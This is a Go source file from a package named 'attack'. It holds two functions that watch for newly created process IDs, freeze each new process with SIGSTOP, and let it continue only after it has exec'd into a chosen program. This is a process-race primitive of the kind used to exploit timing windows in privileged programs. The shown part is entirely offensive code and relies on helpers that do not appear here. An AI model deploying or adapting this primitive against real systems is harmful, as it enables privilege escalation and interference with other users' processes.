package attack

import (
	"bytes"
	"fmt"
	"runtime"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"
)

// stop sends SIGSTOP to each process that appears in the pid namespace, and prints its number, as long as it has another name than comm.
func stop(comm string) error {
	runtime.LockOSThread()
	w := &watcher{said: map[string]bool{}}
	last, err := lastPID()
	if err != nil {
		return err
	}
	fmt.Println("watching")
	for {
		for pid := last + 1; pid <= last+ahead; pid++ {
			if unix.Access("/proc/self/task/"+strconv.Itoa(pid), 0) == nil { // a thread of this process
				last = pid
				break
			}
			if syscall.Kill(pid, syscall.SIGSTOP) != nil {
				continue
			}
			last = pid
			w.release(pid, comm)
			break
		}
	}
}

// release lets a process that was stopped go on when it has become comm: a stop that comes during execve(2) is the program's.
func (w *watcher) release(pid int, comm string) {
	status := "/proc/" + strconv.Itoa(pid) + "/status"
	for n := w.read(status); n > 0 && !bytes.Contains(w.buf[:n], []byte("\nState:\tZ")); n = w.read(status) {
		if bytes.Equal(field(w.buf[:n], "Name:\t"), []byte(comm)) {
			syscall.Kill(pid, syscall.SIGCONT)
			return
		}
		if bytes.Contains(w.buf[:n], []byte("\nState:\tT")) {
			w.say("stopped", pid, "")
		}
	}
}
